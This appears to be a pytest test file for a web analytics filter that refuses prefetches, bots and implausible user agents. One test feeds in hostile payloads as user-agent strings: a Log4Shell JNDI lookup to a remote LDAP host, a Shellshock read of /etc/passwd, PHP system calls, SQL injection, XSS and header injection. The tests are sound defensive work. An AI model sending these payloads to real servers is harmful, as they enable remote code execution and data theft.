from __future__ import annotations

import gzip
import json
from pathlib import Path

import crawleruseragents
import pytest
from hypothesis import given
from hypothesis import strategies as st

from collector.refuse import MAX_USER_AGENT_CHARS, REASONS, refusal_of

DATA = Path(__file__).parents[1] / "data"
CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36"
)

BOTS_AMONG_THE_REAL_ONES = ("SiteScoreBot", "splash Version", "Foregenix")
"""Three programs in the corpus that say what they are."""


@pytest.mark.parametrize(
    ("name", "value"),
    [
        (b"sec-purpose", b"prefetch"),
        (b"sec-purpose", b"prefetch;prerender"),
        (b"sec-purpose", b"prefetch;anonymous-client-ip"),
        (b"purpose", b"prefetch"),
        (b"purpose", b"Preview"),
        (b"x-purpose", b"preview"),
        (b"x-purpose", b"instant"),
        (b"x-moz", b"prefetch"),
    ],
)
def test_pages_fetched_ahead_of_time_are_no_visits(name: bytes, value: bytes) -> None:
    assert refusal_of({name: value}, CHROME) == "prefetch"


@pytest.mark.parametrize(
    "headers", [{}, {b"sec-purpose": b""}, {b"purpose": b"navigate"}, {b"sec-fetch-mode": b"cors"}]
)
def test_a_browser_is_welcome(headers: dict[bytes, bytes]) -> None:
    assert refusal_of(headers, CHROME) is None


@pytest.mark.parametrize("user_agent", ["", " ", "\t  "])
def test_who_does_not_say_what_it_is_is_no_visit(user_agent: str) -> None:
    assert refusal_of({}, user_agent) == "no_user_agent"


@pytest.mark.parametrize(
    "user_agent",
    [
        "${jndi:ldap://198.51.100.1/a}",
        "Mozilla/5.0 ${jndi:dns://x}",
        "{{7*7}}",
        "#{7*7}",
        "%{(#_='multipart/form-data')}",
        "<script>alert(1)</script>",
        "Mozilla/5.0 <img src=x onerror=alert(1)>",
        "<?php system('id'); ?>",
        "() { :; }; /bin/cat /etc/passwd",
        "Mozilla/5.0 $(id)",
        "Mozilla/5.0' OR '1'='1",
        "Mozilla/5.0 UNION ALL SELECT 1,2",
        "1 AND SLEEP(5)",
        "../../../../etc/passwd",
        "Mozilla/5.0\r\nX-Injected: 1",
        "Mozilla/5.0 \x00",
        "12345",
        "-",
        "\u041c\u043e\u0437\u0438\u043b\u043b\u0430",
        "Mozilla/5.0",
        "undefined",
        "null",
    ],
)
def test_what_no_browser_sends_is_absurd(user_agent: str) -> None:
    assert refusal_of({}, user_agent) == "absurd_user_agent"


def test_a_user_agent_may_be_long_but_not_too_long() -> None:
    padded = f"{CHROME} {'x' * MAX_USER_AGENT_CHARS}"
    assert refusal_of({}, padded[:MAX_USER_AGENT_CHARS]) is None
    assert refusal_of({}, padded[: MAX_USER_AGENT_CHARS + 1]) == "absurd_user_agent"


def test_each_example_of_the_maintained_list_is_refused() -> None:
    examples = [example for bot in crawleruseragents.CRAWLER_USER_AGENTS_DATA for example in bot["instances"]]
    assert len(examples) > 2_000
    for example in examples:
        assert refusal_of({}, example) in ("bot", "absurd_user_agent"), example


@pytest.mark.parametrize(
    "user_agent",
    [
        "Mozilla/5.0 (compatible; SomethingNewBot/1.0)",
        "new-crawler/0.1 (+https://example.com/crawler)",
        "Mozilla/5.0 (compatible; Newspider 1.0)",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/128.0.0.0 Safari/537.36",
        "curl/8.5.0",
        "python-requests/2.32",
        "Go-http-client/2.0",
    ],
)
def test_bots_that_declare_themselves_are_refused(user_agent: str) -> None:
    assert refusal_of({}, user_agent) == "bot"


@pytest.mark.parametrize("model", ["CUBOT X30", "CUBOT_NOTE 20", "cubot P50"])
def test_a_telephone_whose_maker_is_called_cubot_is_no_bot(model: str) -> None:
    user_agent = f"Mozilla/5.0 (Linux; Android 10; {model}) AppleWebKit/537.36 Chrome/128.0.0.0 Mobile Safari/537.36"
    assert refusal_of({}, user_agent) is None


def test_no_real_user_agent_is_refused_but_the_bots_among_them() -> None:
    rows = json.loads(gzip.decompress((DATA / "user_agents.json.gz").read_bytes()))["rows"]
    assert len(rows) > 1_000
    for user_agent, _, _ in rows:
        expected = "bot" if any(name in user_agent for name in BOTS_AMONG_THE_REAL_ONES) else None
        assert refusal_of({}, user_agent) == expected, user_agent


@given(st.text(), st.dictionaries(st.sampled_from([b"sec-purpose", b"purpose", b"x-moz"]), st.binary()))
def test_any_request_has_a_reason_or_none(user_agent: str, headers: dict[bytes, bytes]) -> None:
    assert refusal_of(headers, user_agent) in (None, *REASONS)
